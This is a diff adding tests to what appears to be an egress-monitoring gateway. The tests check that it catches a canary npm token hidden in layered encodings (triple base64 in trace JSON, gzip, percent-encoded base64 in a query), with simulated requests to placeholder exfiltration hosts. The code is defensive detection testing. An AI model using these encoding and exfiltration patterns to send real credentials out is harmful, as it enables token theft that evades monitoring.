@@ -439,3 +439,49 @@ class LimitTests(GatewayTestsMixin, SynchronousTestCase):
         proto.connectionLost(None)
         self.successResultOf(Deferred.fromCoroutine(self.gw.close()))
         self.assertEqual([e["Action"] for e in self.attempts()], ["sinkholed"])
+
+
+class LayeredEncodingTests(GatewayTestsMixin, SynchronousTestCase):
+    """
+    Stealers wrap secrets in layers before sending them (Shai-Hulud 2.0
+    base64-encodes several times; others gzip, or put them in a query).
+    """
+
+    def post(self, body: bytes, headers: bytes = b"") -> Dict[str, Any]:
+        proto, t = self.connect()
+        proto.dataReceived(b"POST /v1/traces HTTP/1.1\r\nHost: otel.exfil.invalid\r\n%sContent-Length: %d\r\n\r\n%s"
+                           % (headers, len(body), body))
+        return self.attempts()[-1]
+
+    def test_tripleBase64InsideJSON(self) -> None:
+        import json
+
+        inner = json.dumps({"npmrc": "//registry.npmjs.org/:_authToken=" + TOKEN}).encode()
+        for _ in range(3):
+            inner = base64.b64encode(inner)
+        body = json.dumps({"resourceSpans": [{"attributes": {"data": inner.decode()}}]}).encode()
+        self.assertEqual(self.post(body)["Canaries"], ["npm_token"])
+
+    def test_gzip(self) -> None:
+        import gzip
+
+        body = gzip.compress(b'{"env": {"NPM_TOKEN": "%s"}}' % (TOKEN.encode(),))
+        self.assertEqual(self.post(body, b"Content-Encoding: gzip\r\n")["Canaries"], ["npm_token"])
+
+    def test_percentEncodedBase64InQuery(self) -> None:
+        from urllib.parse import quote
+
+        q = quote(base64.b64encode(b"x" + TOKEN.encode() + b"??").decode(), safe="")
+        proto, t = self.connect()
+        proto.dataReceived(b"GET /c?d=%s HTTP/1.1\r\nHost: c.exfil.invalid\r\n\r\n" % (q.encode(),))
+        self.assertEqual(self.attempts()[-1]["Canaries"], ["npm_token"])
+
+    def test_noFalsePositive(self) -> None:
+        body = base64.b64encode(b"nothing to see here, " * 200)
+        self.assertEqual(self.post(body)["Canaries"], [])
+        self.assertEqual(self.canaries(), [])
+
+    def test_expansionBounded(self) -> None:
+        blob = base64.b64encode(base64.b64encode(b"\0" * 300000))
+        out = G.expandForScan(blob, budget=64 * 1024)
+        self.assertLessEqual(sum(len(b) for b in out), 64 * 1024)
